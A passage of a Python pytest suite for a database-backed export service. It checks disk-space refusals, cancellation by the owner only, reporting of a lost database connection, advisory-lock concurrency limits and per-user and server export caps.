    assert last_line(stocked).outcome == "failed"
    assert not job.folder.exists()


def test_a_server_without_disk_space_refuses_exports_in_a_sentence(
    stocked: Engine, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    (tmp_path / "file").touch()
    monkeypatch.setattr(spool, "SPOOL", tmp_path / "file" / "spool")

    given = answer(address(promise()))

    assert given.status_code == 403
    assert given.text == (
        f"The server's folder for exports, {tmp_path}/file/spool, cannot be written: "
        "Not a directory."
    )


def test_a_person_cancels_only_their_own_export(stocked: Engine, stuck: Job) -> None:
    jobs.cancel(stuck.job_id, actor=MIRA)
    assert stuck.ending is None

    jobs.cancel(stuck.job_id, actor=ANA)

    assert stuck.ending is Ending.CANCELLED
    until(lambda: working(stocked) == 0, 5)
    with pytest.raises((Refusal, FileNotFoundError)):
        list(jobs.pieces(stuck))


def test_a_lost_database_interrupts_the_file_and_is_reported(stocked: Engine, stuck: Job) -> None:
    pieces = jobs.pieces(stuck)
    assert next(pieces)
    with stocked.begin() as conn:
        conn.execute(
            text(
                "select pg_terminate_backend(pid) from pg_stat_activity"
                " where datname = current_database() and application_name = 'affiliate-review exporter'"
                " and xact_start is not null"
            )
        )
    with pytest.raises(Refusal, match="database was lost, so the file is incomplete"):
        drain(pieces)

    assert stuck.ending is Ending.FAILED
    assert working(stocked) == 0
    assert last_line(stocked).outcome == "failed"


def test_only_so_many_exports_read_the_database_at_a_time(stocked: Engine) -> None:
    # A server process notices within a second that the previous test's worker is gone.
    until(lambda: working(stocked) == 0)
    with stocked.connect() as holder:
        for slot in range(limits.READING_AT_ONCE):
            holder.execute(text("select pg_advisory_lock(:key)"), {"key": locks.EXPORTS + slot})
        job = jobs.begin(order_of(everything(ACTIVITY), FileFormat.CSV))
        first = until(lambda: asked_for_a_turn(stocked))
        until(lambda: (asked_for_a_turn(stocked) or first) > first)
        assert not job.can_be_read, "it asked again, and was not let in"
        # To ask is a transaction too, a moment long; reading would last.
        until(lambda: working(stocked) == 0)
        holder.execute(text("select pg_advisory_unlock_all()"))

        until(lambda: job.is_written)

    assert job.rows == DAYS
    job.handed_over()


def test_more_exports_than_the_server_takes_are_refused(
    stocked: Engine, stuck: Job, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(jobs, "AT_ONCE_EACH", 1)
    assert "cancel one" in answer(address(promise())).text

    monkeypatch.setattr(jobs, "AT_ONCE", 1)
    assert "the server's limit" in answer(address(promise(email=MIRA)), who=MIRA).text
